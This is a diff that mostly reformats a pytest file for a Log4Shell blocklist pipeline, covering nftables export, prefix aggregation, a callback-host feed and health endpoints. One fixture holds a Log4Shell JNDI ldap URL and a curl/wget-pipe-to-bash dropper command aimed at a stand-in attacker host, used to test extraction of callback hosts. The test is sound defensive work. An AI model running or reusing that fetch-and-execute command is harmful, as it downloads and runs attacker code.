@@ -1,4 +1,4 @@
-"""Export formats, the follower's view, prefix aggregation, callback hosts and the feed."""
+"""Export formats, the follower view, prefixes, callback hosts and the HTTP feed."""
 
 from __future__ import annotations
 
@@ -20,7 +20,13 @@ from prometheus_client import CollectorRegistry
 from pipeline.aggregate import aggregate, prefix_entry
 from pipeline.blocklist import BlocklistEntry, BlockPolicy, iso
 from pipeline.config import BlocklistSettings
-from pipeline.egress import EgressEntry, command_hosts, egress_entry, new_state, observations
+from pipeline.egress import (
+    EgressEntry,
+    command_hosts,
+    egress_entry,
+    new_state,
+    observations,
+)
 from pipeline.events import Detection, Finding
 from pipeline.exporters import EXPORTERS, Listing
 from pipeline.feed import Feed, Snapshot, make_server
@@ -31,22 +37,45 @@ from pipeline.metrics import Metrics
 NOW = 1_700_000_000.0
 
 
-def entry(address: str, level: str = "Critical", *, dry_run: bool = False, action: str = "block",
-          addresses: int = 1, lease: float = 3600.0) -> BlocklistEntry:  # fmt: skip
+def entry(
+    address: str,
+    level: str = "Critical",
+    *,
+    dry_run: bool = False,
+    action: str = "block",
+    addresses: int = 1,
+    lease: float = 3600.0,
+) -> BlocklistEntry:
     return BlocklistEntry(
-        address=address, action=action, dry_run=dry_run, level=level, score=80.0,
-        reasons=("1 working JNDI lookup",), first_seen=iso(NOW - 86400), last_seen=iso(NOW - 60),
-        hits=3, days=1, addresses=addresses, expires_at=iso(NOW + lease),
+        address=address,
+        action=action,
+        dry_run=dry_run,
+        level=level,
+        score=80.0,
+        reasons=("1 working JNDI lookup",),
+        first_seen=iso(NOW - 86400),
+        last_seen=iso(NOW - 60),
+        hits=3,
+        days=1,
+        addresses=addresses,
+        expires_at=iso(NOW + lease),
         block_until=iso(NOW + 4 * lease),
-    )  # fmt: skip
+    )
 
 
 def callback(host: str, kind: str = "ipv4", lease: float = 3600.0) -> EgressEntry:
     return EgressEntry(
-        host=host, type=kind, roles=("jndi-server",), schemes=("ldap",), ports=(1389,),
-        sources=2, first_seen=iso(NOW - 86400), last_seen=iso(NOW - 60),
-        expires_at=iso(NOW + lease), block_until=iso(NOW + 86400 + lease),
-    )  # fmt: skip
+        host=host,
+        type=kind,
+        roles=("jndi-server",),
+        schemes=("ldap",),
+        ports=(1389,),
+        sources=2,
+        first_seen=iso(NOW - 86400),
+        last_seen=iso(NOW - 60),
+        expires_at=iso(NOW + lease),
+        block_until=iso(NOW + 86400 + lease),
+    )
 
 
 ENTRIES = [
@@ -62,14 +91,21 @@ HOSTS = [callback("192.0.2.66"), callback("ldap.attacker.test", "name")]
 
 def listing(**changes: object) -> Listing:
     base: dict[str, object] = {
-        "entries": ENTRIES, "egress": HOSTS, "settings": BlocklistSettings(), "now": NOW,
-    }  # fmt: skip
+        "entries": ENTRIES,
+        "egress": HOSTS,
+        "settings": BlocklistSettings(),
+        "now": NOW,
+    }
     base.update(changes)
     return Listing(**base)  # type: ignore[arg-type]
 
 
 def test_plain_holds_what_to_block_without_covered_dry_run_or_tag_entries() -> None:
-    assert EXPORTERS["plain"](listing()).split() == ["198.51.100.0/24", "203.0.113.9", "2001:db8::7"]
+    assert EXPORTERS["plain"](listing()).split() == [
+        "198.51.100.0/24",
+        "203.0.113.9",
+        "2001:db8::7",
+    ]
     assert EXPORTERS["plain"](listing(min_level="Critical")).split() == [
         "198.51.100.0/24",
         "2001:db8::7",
@@ -88,7 +124,10 @@ def test_json_and_csv_hold_every_live_entry_with_its_flags() -> None:
 
 def test_nftables_script_declares_interval_timeout_sets_and_element_timeouts() -> None:
     script = EXPORTERS["nftables"](listing())
-    assert "add set inet l4s blocklist_v4 { type ipv4_addr; flags interval, timeout; }" in script
+    assert (
+        "add set inet l4s blocklist_v4 { type ipv4_addr; flags interval, timeout; }"
+        in script
+    )
     assert (
         "add element inet l4s blocklist_v4 { 198.51.100.0/24 timeout 3600s, "
         "203.0.113.9 timeout 3600s }" in script
@@ -97,8 +136,16 @@ def test_nftables_script_declares_interval_timeout_sets_and_element_timeouts() -
     assert script.index("flush set inet l4s blocklist_v4") < script.index("add element")
     nft = shutil.which("nft")
     if nft is None:
-        pytest.skip("nft is not installed: the script's syntax is not checked by nft itself")
-    checked = subprocess.run([nft, "-c", "-f", "-"], input=script, text=True, capture_output=True)
+        pytest.skip(
+            "nft is not installed: the script's syntax is not checked by nft itself"
+        )
+    checked = subprocess.run(
+        [nft, "-c", "-f", "-"],
+        input=script,
+        text=True,
+        capture_output=True,
+        check=False,
+    )
     if "Operation not permitted" in checked.stderr:
         pytest.skip("nft -c needs CAP_NET_ADMIN here")
     assert checked.returncode == 0, checked.stderr
@@ -142,15 +189,20 @@ def test_view_applies_records_and_tombstones_and_drops_ended_leases() -> None:
     view: View[BlocklistEntry] = View(BlocklistEntry)
     for e in ENTRIES:
         assert view.apply(e.address.encode(), msgspec.json.encode(e))
-    assert not view.apply(b"203.0.113.9", msgspec.json.encode(ENTRIES[2])), "same value: no change"
+    assert not view.apply(b"203.0.113.9", msgspec.json.encode(ENTRIES[2])), (
+        "same value: no change"
+    )
     assert view.apply(b"203.0.113.9", None)
     assert not view.apply(b"bad", b"{not json")
     assert view.undecodable == 1
 
     assert len(view.live(NOW)) == len(ENTRIES) - 1
     assert [e.address for e in view.live(NOW + 600)] == [
-        "198.51.100.0/24", "198.51.100.7", "203.0.113.10", "203.0.113.11",
-    ]  # fmt: skip
+        "198.51.100.0/24",
+        "198.51.100.7",
+        "203.0.113.10",
+        "203.0.113.11",
+    ]
     assert view.next_expiry(NOW) == NOW + 120
 
 
@@ -159,7 +211,9 @@ def test_effective_keeps_addresses_outside_every_blocked_prefix() -> None:
     assert [e.address for e in chosen] == ["198.51.100.0/25", "198.51.100.200"]
 
 
-def test_prefix_aggregation_needs_the_threshold_and_spares_allowlisted_neighbours() -> None:
+def test_prefix_aggregation_needs_the_threshold_and_spares_allowlisted_neighbours() -> (
+    None
+):
     settings = BlocklistSettings(aggregate_threshold=3, documentation_as_public=True)
     policy = BlockPolicy(settings)
     members = {a: entry(a) for a in ("198.51.100.1", "198.51.100.2", "198.51.100.3")}
@@ -170,24 +224,39 @@ def test_prefix_aggregation_needs_the_threshold_and_spares_allowlisted_neighbour
     assert prefixes["198.51.100.0/24"].hits == 9
     assert aggregate(dict(list(members.items())[:2]), policy, NOW) == {}
 
-    guarded = BlockPolicy(settings.model_copy(update={"never_block": ["198.51.100.128/32"]}))
-    assert prefix_entry("198.51.100.0/24", members.values(), guarded, NOW) == (None, "never-block")
-    assert aggregate(members, BlockPolicy(BlocklistSettings(aggregate_threshold=3)), NOW) == {}
+    guarded = BlockPolicy(
+        settings.model_copy(update={"never_block": ["198.51.100.128/32"]})
+    )
+    assert prefix_entry("198.51.100.0/24", members.values(), guarded, NOW) == (
+        None,
+        "never-block",
+    )
+    assert (
+        aggregate(members, BlockPolicy(BlocklistSettings(aggregate_threshold=3)), NOW)
+        == {}
+    )
 
 
 def test_callback_hosts_come_from_lookups_and_dropper_commands_not_from_paths() -> None:
     detection = Detection(
-        event_id="f:1", timestamp=NOW, source_ip="203.0.113.50",
+        event_id="f:1",
+        timestamp=NOW,
+        source_ip="203.0.113.50",
         findings=(
             Finding(
-                field="user_agent.original", family="log4shell",
-                url="ldap://192.0.2.9:1389/Basic/Command/Base64/x", scheme="ldap",
-                host="192.0.2.9", port=1389,
-                commands=("(curl -s 198.51.100.77:5874/203.0.113.50:443||wget -q -O- "
-                          "http://dl.attacker.test/lh.sh)|bash;chmod +x lh.sh",),
+                field="user_agent.original",
+                family="log4shell",
+                url="ldap://192.0.2.9:1389/Basic/Command/Base64/x",
+                scheme="ldap",
+                host="192.0.2.9",
+                port=1389,
+                commands=(
+                    "(curl -s 198.51.100.77:5874/203.0.113.50:443||wget -q -O- "
+                    "http://dl.attacker.test/lh.sh)|bash;chmod +x lh.sh",
+                ),
             ),
         ),
-    )  # fmt: skip
+    )
     found = {(o.host, o.role) for o in observations(detection)}
     assert found == {
         ("192.0.2.9", "jndi-server"),
@@ -201,11 +270,20 @@ def test_egress_entries_spare_special_addresses_and_merge_idempotently() -> None
     policy = BlockPolicy(BlocklistSettings(egress_lifetime=timedelta(days=7)))
     obs = observations(
         Detection(
-            event_id="f:2", timestamp=NOW, source_ip="203.0.113.51",
-            findings=(Finding(field="url.original", family="log4shell", url="ldap://127.0.0.1/a",
-                              scheme="ldap", host="127.0.0.1"),),
+            event_id="f:2",
+            timestamp=NOW,
+            source_ip="203.0.113.51",
+            findings=(
+                Finding(
+                    field="url.original",
+                    family="log4shell",
+                    url="ldap://127.0.0.1/a",
+                    scheme="ldap",
+                    host="127.0.0.1",
+                ),
+            ),
         )
-    )  # fmt: skip
+    )
     state = new_state(obs[0])
     assert state.merge(obs[0]) == state
     assert egress_entry("127.0.0.1", state, policy, NOW) == (None, "special")
@@ -215,7 +293,9 @@ def test_egress_entries_spare_special_addresses_and_merge_idempotently() -> None
 
 def test_firewall_diff_refreshes_elements_whose_timeout_moved() -> None:
     current = {"198.51.100.7": 100, "203.0.113.9": 3000, "192.0.2.1": 50}
-    remove, add, refreshed = diff(current, [("198.51.100.7", 98), ("203.0.113.9", 3600), ("2001:db8::7/128", 60)])
+    remove, add, refreshed = diff(
+        current, [("198.51.100.7", 98), ("203.0.113.9", 3600), ("2001:db8::7/128", 60)]
+    )
     assert sorted(remove) == ["192.0.2.1", "203.0.113.9"]
     assert sorted(add) == [("2001:db8::7", 60), ("203.0.113.9", 3600)]
     assert refreshed == 1
@@ -232,7 +312,9 @@ def feed_url() -> Iterator[tuple[str, Feed]]:
     server.server_close()
 
 
-def _get(url: str, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], str]:
+def _get(
+    url: str, headers: dict[str, str] | None = None
+) -> tuple[int, dict[str, str], str]:
     request = urllib.request.Request(url, headers=headers or {})
     try:
         with urllib.request.urlopen(request, timeout=5) as response:
@@ -241,21 +323,44 @@ def _get(url: str, headers: dict[str, str] | None = None) -> tuple[int, dict[str
         return exc.code, dict(exc.headers), exc.read().decode()
 
 
-def test_feed_serves_the_list_with_etag_and_reports_health(feed_url: tuple[str, Feed]) -> None:
+def test_feed_serves_the_list_with_etag_and_reports_health(
+    feed_url: tuple[str, Feed],
+) -> None:
     url, feed = feed_url
     assert _get(f"{url}/healthz")[0] == 503, "not caught up yet"
 
-    feed.update(Snapshot(tuple(entry(e.address, e.level, dry_run=e.dry_run, action=e.action,
-                                     addresses=e.addresses, lease=10**9) for e in ENTRIES),
-                         tuple(callback(h.host, h.type, 10**9) for h in HOSTS),
-                         caught_up=True, polled=time.time()))  # fmt: skip
+    feed.update(
+        Snapshot(
+            tuple(
+                entry(
+                    e.address,
+                    e.level,
+                    dry_run=e.dry_run,
+                    action=e.action,
+                    addresses=e.addresses,
+                    lease=10**9,
+                )
+                for e in ENTRIES
+            ),
+            tuple(callback(h.host, h.type, 10**9) for h in HOSTS),
+            caught_up=True,
+            polled=time.time(),
+        )
+    )
 
     status, headers, body = _get(f"{url}/blocklist.txt")
-    assert status == 200 and body.split() == ["198.51.100.0/24", "203.0.113.9", "2001:db8::7"]
+    assert status == 200 and body.split() == [
+        "198.51.100.0/24",
+        "203.0.113.9",
+        "2001:db8::7",
+    ]
     assert _get(f"{url}/blocklist.txt", {"If-None-Match": headers["ETag"]})[0] == 304
     status, _, critical = _get(f"{url}/blocklist.txt?min_level=Critical")
     assert critical.split() == ["198.51.100.0/24", "2001:db8::7"]
     assert _get(f"{url}/blocklist.txt?min_level=Severe")[0] == 400
     assert _get(f"{url}/healthz")[0] == 200
     assert _get(f"{url}/egress.txt")[2].split() == ["192.0.2.66", "ldap.attacker.test"]
-    assert 'l4s_feed_requests_total{code="304",path="/blocklist.txt"} 1.0' in _get(f"{url}/metrics")[2]
+    assert (
+        'l4s_feed_requests_total{code="304",path="/blocklist.txt"} 1.0'
+        in _get(f"{url}/metrics")[2]
+    )
